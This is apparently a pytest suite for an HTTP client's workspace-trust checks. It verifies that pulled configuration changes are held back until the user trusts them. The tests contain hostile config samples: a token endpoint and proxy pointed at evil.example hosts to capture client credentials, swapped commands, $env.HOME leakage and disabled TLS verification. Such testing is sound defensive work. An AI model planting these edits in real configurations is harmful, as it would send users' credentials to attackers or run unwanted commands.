"""What is new in a trusted workspace is asked about again, alone: on the shell, exit 3."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from tests.engine_lab import Lab
from tests.servers.strict import StrictServers
from tests.shell import Shell

DEV = "environments/dev.toml"
LIST = "requests/list.toml"


def git(folder: Path, *words: str) -> None:
    identity = ("-c", "user.name=x", "-c", "user.email=x@example.com")
    subprocess.run(("git", *identity, *words), cwd=folder, check=True, capture_output=True)


def edit(file: Path, old: str, new: str) -> None:
    text = file.read_text()
    assert old in text
    file.write_text(text.replace(old, new))


@pytest.fixture
def upstream(lab: Lab, tmp_path: Path) -> Path:
    """A repository that the workspace was cloned from."""
    made = tmp_path / "upstream"
    shutil.copytree(lab.root, made)
    git(made, "init", "-q", "-b", "main")
    git(made, "add", "-A")
    git(made, "commit", "-qm", "first")
    shutil.rmtree(lab.root)
    git(tmp_path, "clone", "-q", str(made), str(lab.root))
    return made


def pull(upstream: Path, lab: Lab) -> None:
    git(upstream, "commit", "-qam", "more")
    git(lab.root, "pull", "-q")


def told(said: str) -> list[str]:
    return [line for line in said.splitlines() if "This is not trusted yet: " in line]


def test_a_pulled_token_endpoint_is_asked_about_before_anything_goes_there(
    shell: Shell, lab: Lab, upstream: Path, demo_servers: StrictServers
) -> None:
    assert shell.run("trust").status == 0
    assert shell.run("send", "list").status == 0
    demo_servers.reset()
    edit(upstream / DEV, 'token_endpoint = "', 'token_endpoint = "https://evil.example/" # "')
    pull(upstream, lab)
    for words in (("send", "list"), ("token",)):
        said = shell.run(*words)
        assert said.status == 3
        assert len(told(said.err)) == 1
        assert "credentials of a client go to evil.example" in told(said.err)[0]
        assert f"{DEV}:" in said.err
    assert demo_servers.authorization.recorder.count == 0
    listed = shell.run("trust").text
    assert [line[:6] for line in listed.splitlines()[2:] if "evil.example" in line] == ["  new "]


def test_a_pulled_command_file_and_variable_are_asked_about_alone(
    shell: Shell, lab: Lab, upstream: Path, tmp_path: Path, demo_servers: StrictServers
) -> None:
    secret = '"dev-only-secret"'
    edit(upstream / DEV, secret, '{ command = ["echo", "dev-only-secret"] }')
    pull(upstream, lab)
    assert shell.run("trust").status == 0
    assert shell.run("send", "list").status == 0
    demo_servers.reset()
    mark = tmp_path / "ran"
    private = tmp_path / "private.txt"
    private.write_text("private")
    edit(upstream / DEV, '["echo", "dev-only-secret"]', f'["touch", "{mark}"]')
    with (upstream / LIST).open("a") as file:
        file.write(f'\n[body]\ntype = "file"\nfile = "{private}"\n')
    edit(upstream / LIST, 'url = "', 'headers = [{ name = "X", value = "{{$env.HOME}}" }]\nurl = "')
    pull(upstream, lab)
    said = shell.run("send", "list")
    assert said.status == 3
    for word in ("touch", "HOME", "private"):
        assert any(word in line for line in told(said.err))
    assert len(told(said.err)) == 3
    assert f"{DEV}:5" in said.err
    assert f"{LIST}:1" in said.err
    assert not mark.exists()
    assert demo_servers.authorization.recorder.count == demo_servers.api.recorder.count == 0
    assert "not trusted" not in shell.run("send", "list", "--trust").err
    assert mark.exists()
    assert len(told(shell.run("send", "list").err)) == 3


def test_a_script_of_the_workspace_belongs_to_its_command(
    shell: Shell, lab: Lab, tmp_path: Path
) -> None:
    script = lab.root / "secret.sh"
    script.write_text("echo dev-only-secret\n")
    edit(lab.root / DEV, '"dev-only-secret"', '{ command = ["sh", "secret.sh"] }')
    assert shell.run("trust").status == 0
    assert shell.run("send", "list").status == 0
    script.write_text(f"touch {tmp_path}/ran; echo dev-only-secret\n")
    assert shell.run("send", "list").status == 3
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("command", "file"),
    [
        (["sh", "-c", "cd tools && . ./secret.sh"], "tools/secret.sh"),
        (["env", "-S", "sh tools/secret.sh"], "tools/secret.sh"),
        (["sh", "-c", "for one in tools/*.sh; do . $one; done"], "tools/secret.sh"),
    ],
)
def test_what_a_command_runs_by_way_of_another_belongs_to_it(
    shell: Shell, lab: Lab, tmp_path: Path, command: list[str], file: str
) -> None:
    script = lab.root / file
    script.parent.mkdir()
    script.write_text("echo dev-only-secret\n")
    edit(lab.root / DEV, '"dev-only-secret"', f"{{ command = {json.dumps(command)} }}")
    assert shell.run("trust").status == 0
    assert shell.run("send", "list").status == 0
    script.write_text(f"touch {tmp_path}/ran; echo dev-only-secret\n")
    assert shell.run("send", "list").status == 3
    assert not (tmp_path / "ran").exists()
    assert shell.run("trust").status == 0
    assert shell.run("send", "list").status == 0
    assert (tmp_path / "ran").exists()


def test_another_folder_at_a_trusted_path_gets_nothing(
    shell: Shell, lab: Lab, tmp_path: Path, demo_servers: StrictServers
) -> None:
    assert shell.run("trust").status == 0
    shutil.move(lab.root, tmp_path / "before")
    shutil.copytree(tmp_path / "before", lab.root)
    edit(lab.root / DEV, '"dev-only-secret"', '{ env = "HOME" }')
    edit(lab.root / DEV, "[variables]", '[proxy]\nurl = "http://proxy.evil.example"\n[variables]')
    said = shell.run("send", "list")
    assert said.status == 3
    assert len(told(said.err)) == 2
    assert demo_servers.authorization.recorder.count == 0


def test_what_a_typed_value_names_needs_no_trust(
    shell: Shell, lab: Lab, demo_servers: StrictServers, tmp_path: Path
) -> None:
    body = tmp_path / "body.txt"
    body.write_text("x")
    edit(
        lab.root / DEV,
        f'token_endpoint = "{demo_servers.token_url}"',
        'token_endpoint = "{{login}}"',
    )
    edit(lab.root / DEV, "[secrets]", 'login = "https://login.example.com/token"\n[secrets]')
    with (lab.root / LIST).open("a") as file:
        file.write('\n[body]\ntype = "file"\nfile = "{{file}}"\n[variables]\nfile = "../other"\n')
    refused = shell.run("send", "list")
    assert len(told(refused.err)) == 2
    said = shell.run(
        "send", "list", "--var", f"login={demo_servers.token_url}", "--var", f"file={body}"
    )
    assert "not trusted" not in said.err
    assert demo_servers.authorization.recorder.count == 1


def test_a_link_that_leads_out_is_agreed_to_by_where_it_leads(
    shell: Shell, lab: Lab, tmp_path: Path
) -> None:
    shared, other = tmp_path / "shared", tmp_path / "other"
    for folder in (shared, other):
        folder.mkdir()
        shutil.copy(lab.root / LIST, folder / "list.toml")
    link = lab.root / "requests/shared"
    link.symlink_to(shared)
    assert shell.run("send", "shared/list").status == 3
    assert str(shared) in shell.run("trust").text
    assert shell.run("send", "shared/list").status == 0
    link.unlink()
    link.symlink_to(other)
    assert shell.run("send", "shared/list").status == 3


def test_a_new_workspace_is_trusted_with_what_outrider_wrote_and_no_more(
    shell: Shell, tmp_path: Path
) -> None:
    made = tmp_path / "made"
    (made / "requests").mkdir(parents=True)
    (made / "requests/theirs.toml").write_text('url = "http://localhost:1/{{$env.HOME}}"\n')
    assert shell.run("init", str(made)).status == 0
    inside = Shell(shell.home, made)
    assert inside.run("send", "theirs").status == 3
    (made / "requests/theirs.toml").unlink()
    assert "new" not in [line[2:5] for line in inside.run("trust").text.splitlines()]


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("allow_insecure_http = true\n", "without TLS"),
        ("[tls]\nverify = false\n", "not verified"),
        ('[tls]\nca_bundle = "/etc/hostname"\n', "/etc/hostname"),
        (
            '[tls]\nclient_certificate = "me.p12"\nclient_key_password = "{{$env.KEY_PASSWORD}}"\n',
            "KEY_PASSWORD",
        ),
        ('[proxy]\nurl = "http://{{client_secret}}:x@proxy.example:3128"\n', "proxy.example:3128"),
    ],
)
def test_settings_of_an_environment_need_trust(
    shell: Shell, lab: Lab, line: str, words: str
) -> None:
    file = lab.root / DEV
    file.write_text(line + file.read_text() if "allow" in line else file.read_text() + line)
    said = shell.run("send", "list")
    assert said.status == 3
    assert words in " ".join(told(said.err))
    assert words in shell.run("trust").text
    assert "not trusted" not in shell.run("send", "list").err
